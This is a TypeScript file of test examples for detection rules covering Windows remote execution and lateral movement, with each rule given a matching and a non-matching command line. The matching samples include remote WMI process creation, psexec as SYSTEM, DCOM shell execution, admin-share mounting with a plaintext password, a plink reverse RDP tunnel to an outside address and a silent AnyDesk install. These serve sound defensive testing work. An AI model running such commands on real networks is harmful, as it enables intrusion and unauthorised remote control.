import type { Examples } from "../example.ts";
import { inArea, scripts, start, starts } from "./build.ts";

const ANYDESK = String.raw`C:\Program Files (x86)\AnyDesk\AnyDesk.exe`;

export const REMOTE_EXAMPLES: Examples = inArea({
  "output-sent-back-through-share": starts(
    String.raw`cmd.exe /Q /c ipconfig 1> \\127.0.0.1\ADMIN$\__1699881234.55 2>&1`,
    String.raw`cmd.exe /Q /c ipconfig 1> D:\logs\net.txt 2>&1`,
  ),
  "process-created-through-wmi": starts(
    `wmic /node:FS02 process call create "cmd /c calc"`,
    "wmic process list brief",
  ),
  "other-host-asked-by-wmi": starts(
    "wmic /node:FS02 os get caption",
    "wmic /node:localhost os get caption",
  ),
  "remote-command-by-winrm": starts("winrs -r:EXCH01 cmd", "winrs -r:localhost cmd"),
  "remote-powershell-session-opened": starts(
    String.raw`C:\Windows\system32\wsmprovhost.exe -Embedding`,
    String.raw`C:\Windows\system32\wsmprovhost.exe`,
  ),
  "remote-powershell-used": scripts(
    "Invoke-Command -ComputerName FS02 -ScriptBlock { hostname }",
    "Invoke-Command -ComputerName localhost -ScriptBlock { hostname }",
  ),
  "remote-object-called": scripts(
    "$d=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','FS02'));$d.Document.ActiveView.ExecuteShellCommand('cmd',$null,'/c u',7)",
    "$x=[activator]::CreateInstance([type]::GetTypeFromProgID('Excel.Application'));$x.Workbooks.Open($f)",
  ),
  "remote-management-switched-on": starts("winrm quickconfig -q", "winrm get winrm/config"),
  "remote-execution-tool": starts(String.raw`psexec \\FS02 -s cmd`, "psexec -?"),
  "remote-execution-service": {
    hit: start(String.raw`C:\Windows\PSEXESVC.exe`, "services.exe"),
    miss: start(String.raw`C:\Windows\System32\spoolsv.exe`, "services.exe"),
  },
  "run-as-system": starts("psexec -accepteula -s -i cmd", "psexec -i cmd"),
  "administrative-share-mounted": starts(
    String.raw`net use \\10.0.9.31\c$ /user:CORP\adm P4ss`,
    String.raw`net use \\10.0.9.31\c$ /delete`,
  ),
  "file-put-on-administrative-share": starts(
    String.raw`cmd /c copy C:\tools\u.exe \\FS02\C$\Windows\u.exe`,
    String.raw`cmd /c copy C:\docs\plan.docx \\FS02\team\plan.docx`,
  ),
  "administrative-share-used": starts(
    String.raw`cmd /c dir \\FS02\C$\Users`,
    String.raw`cmd /c dir \\FS02\team`,
  ),
  "share-mounted": starts(String.raw`net use Z: \\FS02\team`, "net use Z: /delete"),
  "port-proxy-set": starts(
    "netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.9 connectport=443",
    "netsh interface portproxy show all",
  ),
  "port-proxy-removed": starts(
    "netsh interface portproxy delete v4tov4 listenport=8443",
    "netsh interface portproxy show all",
  ),
  "tunnel-outwards": starts(
    "plink.exe -N -R 3389:127.0.0.1:3389 t@203.0.113.40",
    "plink.exe -l backup 10.0.0.9 show version",
  ),
  "port-forwarded-by-ssh": starts(
    "ssh.exe -L 8080:intranet:80 ann@jump",
    "ssh.exe ann@jump uptime",
  ),
  "remote-control-tool-installed": starts(
    String.raw`AnyDesk.exe --install "C:\ProgramData\AnyDesk" --start-with-win --silent`,
    `"${ANYDESK}" --service`,
  ),
  "remote-control-tool-in-odd-folder": starts(
    String.raw`C:\Users\Public\AnyDesk.exe --service`,
    `"${ANYDESK}" --service`,
  ),
  "remote-control-tool": starts(
    `"${ANYDESK}" --service`,
    String.raw`"C:\Program Files\Acme\desk.exe"`,
  ),
});
